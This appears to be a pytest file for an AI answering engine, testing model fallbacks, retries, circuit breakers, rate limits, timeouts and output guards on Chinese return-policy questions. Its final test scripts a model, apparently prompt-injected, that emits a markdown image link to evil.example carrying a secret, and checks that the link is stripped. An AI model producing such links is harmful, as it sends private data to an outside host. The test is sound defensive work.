"""Models may fail; the engine answers all the same, says from where, and asks no sooner than it was told."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import replace
from typing import Any

import pytest

from parley.contracts.v1 import Source
from parley.core import SystemClock
from parley.testing import VirtualClock
from parley.testing.builders import a_turn
from parley.testing.model import MODES, ModelServer, Script
from parley_ai_engine.admission.breaker import Breaker, BreakerRules
from parley_ai_engine.admission.buckets import MemoryBuckets, Rate
from parley_ai_engine.admission.gate import Gate, GateRules
from parley_ai_engine.cache.answers import MemoryAnswers
from parley_ai_engine.cache.remembering import Remembering
from parley_ai_engine.guards.outgoing import Outgoing
from parley_ai_engine.guards.words import WordList
from parley_ai_engine.pipeline.answering import Answerer
from parley_ai_engine.pipeline.evidence import Evidence
from parley_ai_engine.pipeline.ladder import Ladder, Route
from parley_ai_engine.pipeline.streaming import ChunkWriter
from parley_ai_engine.pipeline.turn import Reply, Turn
from parley_ai_engine.settings import EngineSettings
from tests.contract.models.vendors import a_model

RETURNS = Source(document_id="returns", title="退货", version=3, passage="七天内可以无理由退货。")
PUMP_SECONDS = 0.005


class Shelf:
    async def search(self, tenant: str, query: str, language: str, *, seconds: float) -> Evidence:
        return Evidence((RETURNS,), "七天内可以无理由退货。", 0.95)


class Desk:
    """An answerer over real models, on a clock that moves only while nothing else does."""

    def __init__(self, routes: list[Route], clock: VirtualClock, **ladder: Any) -> None:
        self.clock = clock
        self.routes = routes
        self.shown: list[tuple[str, str]] = []
        self.answerer = Answerer(
            Shelf(), Remembering(Ladder(routes, clock, **ladder), MemoryAnswers(0, clock)), EngineSettings()
        )

    async def ask(self, question: str = "多久可以退货？") -> Reply:
        """One turn of 30 virtual seconds."""
        turn = Turn.from_event(a_turn(question, seconds=self.clock.now() - 1_800_000_000.0 + 30))
        self.shown = []
        asked = asyncio.create_task(self.answerer.answer(turn, self.begin))
        while not (await asyncio.wait({asked}, timeout=PUMP_SECONDS))[0]:
            if self.clock.next_wake is not None:
                await self.clock.advance(max(0.0, self.clock.next_wake - self.clock.now()))
        return asked.result()

    def begin(self, origin: str) -> ChunkWriter:
        return ChunkWriter(lambda _, delta: self.shown.append((origin, delta)), self.clock)


@asynccontextmanager
async def a_desk(
    server: ModelServer, *levels: str, rules: BreakerRules | None = None, **ladder: Any
) -> AsyncIterator[Desk]:
    """A model for each level, named after it."""
    clock = VirtualClock()
    async with AsyncExitStack() as stack:
        routes = []
        for level in levels:
            model = await stack.enter_async_context(
                a_model(server, "openai", level, first_token_seconds=0.3, idle_seconds=0.3)
            )
            routes.append(Route(model, Breaker(clock, rules), level))
        yield Desk(routes, clock, **ladder)


def calls_of(server: ModelServer, model: str) -> int:
    return sum(call.model == model for call in server.ledger)


async def test_a_model_that_is_dead_for_five_minutes_costs_nobody_an_answer(stand_in: ModelServer) -> None:
    async with a_desk(stand_in, "main") as desk:
        assert (await desk.ask()).level == "L0"
        before = len(stand_in.ledger)
        stand_in.script = MODES["reset"]
        died = desk.clock.now()
        while desk.clock.now() < died + 300:
            reply = await desk.ask()
            assert (reply.level, reply.origin, reply.text) == ("L3", "extractive", "七天内可以无理由退货。")
            assert reply.why["degraded"].startswith("main: ")
            person = await desk.ask("转人工")
            assert person.handoff is not None
            await desk.clock.advance(5)
        assert len(stand_in.ledger) - before <= 5 + 3 + 300 / 15 + 1, "it was asked again and again while it was dead"
        stand_in.script = Script("七天内可以退。")
        await desk.clock.advance(15)
        reply = await desk.ask()
        assert (reply.level, reply.origin, desk.routes[0].breaker.state) == ("L0", "llm", "closed")


async def test_the_next_rung_answers_and_the_reply_says_which_and_why(stand_in: ModelServer) -> None:
    stand_in.scripts = {"main": MODES["overloaded"], "other": MODES["unauthorized"], "local": Script("七天。")}
    async with a_desk(stand_in, "main", "other", "local") as desk:
        reply = await desk.ask()
    assert (reply.level, reply.origin, reply.text) == ("L2", "local_llm", "七天。")
    assert reply.why["degraded"] == "main: overloaded; other: unauthorized"
    assert calls_of(stand_in, "other") == 1, "a refused key is not tried again"


async def test_two_hiccups_and_then_an_answer_are_one_answer_in_three_tries(stand_in: ModelServer) -> None:
    stand_in.queue.extend([MODES["overloaded"], MODES["overloaded"], Script("七天。")])
    async with a_desk(stand_in, "main") as desk:
        reply = await desk.ask()
    assert (reply.text, reply.level, len(stand_in.ledger)) == ("七天。", "L0", 3)
    assert reply.sources[0].document_id == "returns"


LATER = [("2", 2.0), ("600", None), (None, 0.0), ("garbage", 0.0)]


@pytest.mark.parametrize(("header", "wait"), LATER)
async def test_nobody_comes_back_before_the_retry_after(
    stand_in: ModelServer, header: str | None, wait: float | None
) -> None:
    """Two seconds are waited for; ten minutes are not, but kept; without a sensible header the pause is our own."""
    stand_in.queue.extend([Script(status=429, retry_after=header), Script("七天。")])
    async with a_desk(stand_in, "main") as desk:
        began = desk.clock.now()
        reply = await desk.ask()
        passed = desk.clock.now() - began
        if wait is None:
            assert (reply.level, len(stand_in.ledger)) == ("L3", 1)
            await desk.clock.advance(590)
            assert (await desk.ask()).level == "L3"
            assert len(stand_in.ledger) == 1
            await desk.clock.advance(10)
            assert (await desk.ask()).level == "L0"
        else:
            assert (reply.level, len(stand_in.ledger)) == ("L0", 2)
            assert wait <= passed <= wait + 0.5


async def test_retries_are_a_tenth_of_the_calls_when_everything_fails(stand_in: ModelServer) -> None:
    stand_in.script = MODES["overloaded"]
    async with a_desk(stand_in, "main", rules=BreakerRules(calls=1000, in_a_row=1000)) as desk:
        for _ in range(100):
            await desk.ask()
    assert 100 <= len(stand_in.ledger) <= 100 + 10 + 3


BROKEN = ["stall", "cut", "broken", "malformed", "error"]


@pytest.mark.parametrize("mode", BROKEN)
async def test_after_the_first_word_no_other_model_is_spliced_in(stand_in: ModelServer, mode: str) -> None:
    stand_in.scripts = {"main": Script("七天内可以退货，运费我们承担。", fault=mode), "other": Script("另一个回答")}
    async with a_desk(stand_in, "main", "other") as desk:
        reply = await desk.ask()
    assert (reply.level, reply.origin, reply.text) == ("L3", "extractive", "七天内可以无理由退货。")
    assert {origin for origin, _ in desk.shown} == {"llm"}, "the quote repairs the preview as a whole, later"
    assert [call.model for call in stand_in.ledger] == ["main"]


@pytest.mark.parametrize("mode", ["hang", "drip"])
async def test_nothing_outlives_the_time_for_models(stand_in: ModelServer, mode: str) -> None:
    stand_in.script = MODES[mode]
    clock = SystemClock()
    async with a_model(stand_in, "openai") as model:
        ladder = Ladder([Route(model, Breaker(clock))], clock, total_seconds=0.25)
        event = a_turn("多久可以退货？", seconds=clock.now() - 1_800_000_000.0 + 30)
        async with asyncio.timeout(1.25):
            answerer = Answerer(Shelf(), Remembering(ladder, MemoryAnswers(0, clock)), EngineSettings())
            reply = await answerer.answer(Turn.from_event(event), lambda _: ChunkWriter(lambda *_: None, clock))
        await stand_in.settled()
    assert reply.level == "L3"
    assert stand_in.ledger.last.outcome == "closed"


async def test_a_turn_without_time_asks_no_model(stand_in: ModelServer) -> None:
    async with a_desk(stand_in, "main") as desk:
        turn = Turn.from_event(a_turn("多久可以退货？", seconds=1))
        reply = await desk.answerer.answer(turn, desk.begin)
    assert (reply.level, len(stand_in.ledger)) == ("L3", 0)
    assert reply.why["degraded"] == "main: no time left"


async def test_a_cancelled_turn_closes_the_upstream_and_frees_the_probe(stand_in: ModelServer) -> None:
    stand_in.script = MODES["stall"]
    async with a_desk(stand_in, "main") as desk:
        asked = asyncio.create_task(desk.answerer.answer(Turn.from_event(a_turn("多久可以退货？")), desk.begin))
        await stand_in.ledger.until(lambda: bool(stand_in.ledger.open) and stand_in.ledger.last.chunks > 0)
        asked.cancel()
        await stand_in.settled()
        assert (stand_in.ledger.last.outcome, desk.routes[0].breaker.state) == ("closed", "closed")


async def test_a_provider_with_a_bug_is_a_failure_like_any_other(stand_in: ModelServer) -> None:
    class Buggy:
        name = "buggy"

        async def chat(self, ask: object) -> Any:
            raise KeyError("choices")
            yield ""

    clock = VirtualClock()
    async with a_model(stand_in, "openai", "other") as good:
        buggy: Any = Buggy()
        desk = Desk([Route(buggy, Breaker(clock)), Route(good, Breaker(clock), "other")], clock)
        reply = await desk.ask()
    assert (reply.level, reply.why["degraded"]) == ("L1", "buggy: malformed")


async def test_a_spent_minute_leads_to_the_next_rung_and_never_to_one_call_too_many(stand_in: ModelServer) -> None:
    clock = VirtualClock()
    async with a_model(stand_in, "openai", "main") as main, a_model(stand_in, "openai", "other") as other:
        gate = Gate("key", GateRules(key=Rate(requests=2)), MemoryBuckets(clock), clock)
        desk = Desk([Route(main, Breaker(clock), "main", gate), Route(other, Breaker(clock), "other")], clock)
        replies = [await desk.ask() for _ in range(3)]
        assert [reply.level for reply in replies] == ["L0", "L0", "L1"]
        assert "not_admitted" in replies[2].why["degraded"]
        assert calls_of(stand_in, "main") == 2
        await clock.advance(60)
        assert (await desk.ask()).level == "L0"


async def test_what_is_taken_from_the_minute_is_what_the_vendor_counted(stand_in: ModelServer) -> None:
    clock = VirtualClock()
    buckets = MemoryBuckets(clock)
    limits = Rate(tokens=10_000)
    async with a_model(stand_in, "openai", "main") as main:
        gate = Gate("key", GateRules(key=limits), buckets, clock)
        await Desk([Route(main, Breaker(clock), "main", gate)], clock).ask()
    used = stand_in.ledger.last.input_tokens + stand_in.ledger.last.output_tokens
    assert await buckets.reserve({"key": limits}, 10_000 - used) == 0
    assert await buckets.reserve({"key": limits}, 1) > 0


async def test_a_listed_word_stops_the_upstream_and_asks_for_a_person(stand_in: ModelServer) -> None:
    stand_in.script = Script("我们的货都是真的，绝不卖假货，" + "请放心。" * 200, chunk_chars=1, chunk_seconds=0.005)
    async with a_desk(stand_in, "main") as desk:
        desk.answerer = replace(desk.answerer, outgoing=Outgoing(WordList(["假货"])))
        reply = await desk.ask()
        await stand_in.settled()
    assert reply.handoff is not None
    assert (reply.level, reply.why["guard"]) == ("L5", "words")
    assert "假" not in "".join(delta for _, delta in desk.shown)
    assert stand_in.ledger.last.outcome == "closed"


async def test_a_model_that_was_talked_into_a_link_shows_none(stand_in: ModelServer) -> None:
    stand_in.script = Script("七天。![x](https://evil.example/?d=secret)", chunk_chars=3)
    async with a_desk(stand_in, "main") as desk:
        reply = await desk.ask()
    assert reply.text == "七天。![x]([…])"
    assert "".join(delta for _, delta in desk.shown) == reply.text
